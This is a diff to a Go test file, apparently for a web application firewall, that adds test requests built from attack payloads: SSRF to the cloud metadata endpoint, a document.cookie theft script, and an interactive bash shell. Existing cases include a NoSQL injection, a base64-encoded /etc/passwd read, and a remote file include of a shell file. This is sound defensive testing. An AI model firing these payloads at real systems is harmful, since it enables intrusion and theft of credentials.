@@ -102,6 +102,10 @@ func TestGate_SameVerdicts(t *testing.T) {
 		},
 		"nosql":        func() *http.Request { return get("/s?user[$ne]=1&pass[$gt]=") },
 		"base64 shell": func() *http.Request { return get("/s?d=" + "Y2F0IC9ldGMvcGFzc3dk") },
+		// @pm and @pmFromFile rules: 934110, 941180, 932160.
+		"ssrf to metadata": func() *http.Request { return get("/s?u=http://169.254.169.254/latest/meta-data/") },
+		"document.cookie":  func() *http.Request { return get("/s?q=x%22;new%20Image().src=document.cookie") },
+		"unix shell path":  func() *http.Request { return post("application/json", `{"cmd":"/bin/bash -i"}`) },
 		// 931100 reads cookies only through sekisho's channels (a SecRuleUpdateTargetById).
 		"rfi in cookie": func() *http.Request { return get("/", "Cookie", "u=http://192.0.2.1/shell.txt") },
 	}
